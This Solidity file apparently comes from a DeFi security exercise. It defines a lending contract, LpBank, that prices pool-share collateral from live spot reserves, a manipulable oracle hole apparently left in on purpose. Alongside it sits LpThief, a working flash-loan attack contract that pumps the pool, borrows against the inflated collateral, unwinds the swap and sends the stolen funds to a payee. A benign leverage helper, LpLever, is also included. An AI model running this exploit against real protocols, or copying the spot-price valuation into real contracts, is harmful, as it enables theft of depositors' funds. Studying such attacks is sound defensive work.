// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// Lends dollars of six places against shares of a pool, each worth twice its part of the coins in there at this moment.
contract LpBank {
    Pool public immutable pool;
    Token public immutable weth;
    Token public immutable dollar;
    uint256 public constant DOLLARS_A_COIN = 2500;
    mapping(address => uint256) public shares;
    mapping(address => uint256) public debt;
    address[] private borrowers;

    event Deposit(address indexed account, uint256 shares);
    event Withdraw(address indexed account, uint256 shares);
    event Borrow(address indexed account, uint256 amount);
    event Repay(address indexed account, uint256 amount);

    constructor(Pool pool_, Token weth_, Token dollar_) {
        (pool, weth, dollar) = (pool_, weth_, dollar_);
    }

    function deposit(uint256 amount) external {
        pool.transferFrom(msg.sender, address(this), amount);
        shares[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        shares[msg.sender] -= amount;
        require(debt[msg.sender] <= limit(msg.sender), "collateral too low");
        pool.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function borrow(uint256 amount) external {
        if (debt[msg.sender] == 0) borrowers.push(msg.sender);
        debt[msg.sender] += amount;
        require(debt[msg.sender] <= limit(msg.sender), "collateral too low");
        dollar.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        dollar.transferFrom(msg.sender, address(this), amount);
        debt[msg.sender] -= amount;
        emit Repay(msg.sender, amount);
    }

    function worth(uint256 amount) public view returns (uint256) {
        (uint112 r0, uint112 r1,) = pool.getReserves();
        uint256 coins = pool.token0() == weth ? r0 : r1;
        return 2 * coins * amount / pool.totalSupply() * DOLLARS_A_COIN / 1e12;
    }

    function limit(address account) public view returns (uint256) {
        return worth(shares[account]) * 75 / 100;
    }

    function badDebt() external view returns (uint256 sum) {
        for (uint256 i = 0; i < borrowers.length; i++) {
            uint256 has = worth(shares[borrowers[i]]);
            if (debt[borrowers[i]] > has) sum += debt[borrowers[i]] - has;
        }
    }
}

/// What both the thief and the honest do: turn coins into shares of the pool, half of them sold for the other token.
abstract contract Zapper {
    Token internal constant WETH = Token(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);

    function join(Pool pool, uint256 coins) internal returns (uint256) {
        WETH.approve(address(pool), type(uint256).max);
        uint256 got = pool.sell(WETH, coins / 2, address(this));
        Token other = pool.token0() == WETH ? pool.token1() : pool.token0();
        (uint112 r0, uint112 r1,) = pool.getReserves();
        (uint256 rw, uint256 ro) = pool.token0() == WETH ? (r0, r1) : (r1, r0);
        uint256 fits = got * rw / ro;
        if (fits > coins - coins / 2) fits = coins - coins / 2;
        WETH.transfer(address(pool), fits);
        other.transfer(address(pool), fits * ro / rw);
        return pool.mint(address(this));
    }
}

/// Makes the pool rich in coins for a moment, and borrows on its own shares of it.
contract LpThief is Zapper {
    struct Job {
        LpBank bank;
        Pool dollars;
        uint256 collateral;
        uint256 pump;
        address payee;
    }

    function run(FlashLender lender, Job calldata job) external {
        lender.flashLoan(IBorrower(address(this)), WETH, job.collateral + job.pump, abi.encode(job));
        Token dollar = job.bank.dollar();
        dollar.transfer(job.payee, dollar.balanceOf(address(this)));
        WETH.transfer(job.payee, WETH.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32) {
        Job memory job = abi.decode(data, (Job));
        Pool pool = job.bank.pool();
        uint256 shares = join(pool, job.collateral);
        pool.approve(address(job.bank), shares);
        job.bank.deposit(shares);
        uint256 got = pool.sell(WETH, job.pump, address(this));
        job.bank.borrow(job.bank.limit(address(this)));
        Token other = pool.token0() == WETH ? pool.token1() : pool.token0();
        got = other.balanceOf(address(this));
        other.approve(address(pool), got);
        pool.sell(other, got, address(this));
        settle(job, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    /// What is missing of the loan is bought for some of the loot.
    function settle(Job memory job, uint256 owed) private {
        Token dollar = job.bank.dollar();
        uint256 short = owed - WETH.balanceOf(address(this));
        (uint112 r0, uint112 r1,) = job.dollars.getReserves();
        (uint256 rd, uint256 rw) = job.dollars.token0() == dollar ? (r0, r1) : (r1, r0);
        uint256 price = rd * short * 1000 / ((rw - short) * 997) + 1;
        dollar.approve(address(job.dollars), price);
        job.dollars.sell(dollar, price, address(this));
        WETH.approve(msg.sender, owed);
    }
}

/// Opens a position of three times its means in one go: borrowed coins become shares, shares collateral, and dollars
/// borrowed on them pay the coins back.
contract LpLever is Zapper {
    struct Job {
        LpBank bank;
        Pool dollars;
        uint256 own;
        uint256 loan;
    }

    address private immutable owner = msg.sender;

    function open(FlashLender lender, Job calldata job) external {
        require(msg.sender == owner, "not the owner");
        WETH.transferFrom(msg.sender, address(this), job.own);
        lender.flashLoan(IBorrower(address(this)), WETH, job.loan, abi.encode(job));
        WETH.transfer(owner, WETH.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token, uint256 amount, uint256 fee, bytes calldata data) external returns (bytes32) {
        Job memory job = abi.decode(data, (Job));
        Pool pool = job.bank.pool();
        uint256 shares = join(pool, job.own + amount);
        pool.approve(address(job.bank), shares);
        job.bank.deposit(shares);
        uint256 dollars = job.bank.limit(address(this)) * 95 / 100;
        job.bank.borrow(dollars);
        Token dollar = job.bank.dollar();
        dollar.approve(address(job.dollars), dollars);
        job.dollars.sell(dollar, dollars, address(this));
        WETH.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
